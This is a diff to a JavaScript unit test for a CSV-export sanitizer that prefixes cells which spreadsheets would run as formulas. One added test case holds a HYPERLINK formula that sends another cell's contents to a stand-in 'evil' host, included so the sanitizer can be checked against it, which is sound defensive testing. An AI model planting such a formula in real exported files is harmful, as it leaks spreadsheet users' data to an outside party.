@@ -19,11 +19,14 @@ describe("figures.csv: no cell runs as a formula", () => {
     ["\r=1+1", "'\r=1+1"],
     ["＝1+1", "'＝1+1"],
     ["－5", "'－5"],
+    [" =1+1", "' =1+1"],
+    ["x;=HYPERLINK(\"http://evil/?\"&B2,\"点击\")", "'x；=HYPERLINK(\"http://evil/?\"&B2,\"点击\")"],
+    ["a\t@SUM(1)", "'a\t@SUM(1)"],
   ])("prefixes %j", (cell, expected) => {
     expect(csvSafeCell(cell)).toBe(expected);
   });
 
-  it.each(["-12.5", "-3", "16000", "0.001", "参会嘉宾", "约1.6万名", "a=b", ""])("leaves %j as it is", (cell) => {
+  it.each(["-12.5", "-3", "16000", "0.001", "参会嘉宾", "约1.6万名", "a=b", "a;b", ""])("leaves %j as it is", (cell) => {
     expect(csvSafeCell(cell)).toBe(cell);
   });
 
